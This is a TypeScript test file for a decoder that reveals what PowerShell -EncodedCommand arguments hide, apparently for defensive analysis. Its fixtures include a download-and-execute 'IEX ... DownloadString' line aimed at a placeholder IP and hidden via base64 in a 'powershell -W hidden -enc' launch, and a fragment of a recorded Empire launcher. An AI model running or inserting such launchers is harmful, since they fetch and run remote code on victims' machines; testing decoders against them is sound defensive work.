import fc from 'fast-check'
import { expect, test } from 'vitest'
import { decodedCommand } from './decoded-command.ts'

const packed = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const SAID = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') # 請求書"

test.each([['-EncodedCommand'], ['-enc'], ['-e'], ['-ec'], ['/Enc'], ['–enco']])(
  '%s is read as PowerShell reads it',
  (flag) => {
    expect(decodedCommand(`powershell.exe -NoP -W hidden ${flag} ${packed(SAID)}`)).toBe(SAID)
  },
)

test('what a recorded Empire launcher hid is shown', () => {
  // OTRF Security-Datasets (MIT), empire_launcher_vbs: the beginning of its command line.
  const line =
    'powershell -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMAVgBFAHIAUwBJAE8AbgAuAE0AYQBqAE8AUgAgAC0AZwBFACAAMwApAHsA'
  expect(decodedCommand(line)).toBe('If($PSVERSiOnTaBlE.PSVErSIOn.MajOR -gE 3){')
})

test.each([
  ['nothing is encoded', 'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1'],
  ['a name that only begins alike', `tool.exe -encoding ${packed(SAID)}`],
  ['bytes that are no text', `powershell -enc ${Buffer.alloc(40, 0xd8).toString('base64')}`],
  ['nothing stands there', 'powershell -enc '],
])('%s: nothing is shown', (_, value) => {
  expect(decodedCommand(value)).toBeNull()
})

test('whatever stands there ends, and what was packed comes back', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 400 }), (junk) => {
      decodedCommand(junk)
      decodedCommand(`powershell -e ${junk}`)
    }),
  )
  fc.assert(
    fc.property(fc.stringMatching(/^[ -~]{8,200}$/), (text) => {
      expect(decodedCommand(`powershell -e ${packed(text)}`)).toBe(text)
    }),
  )
})
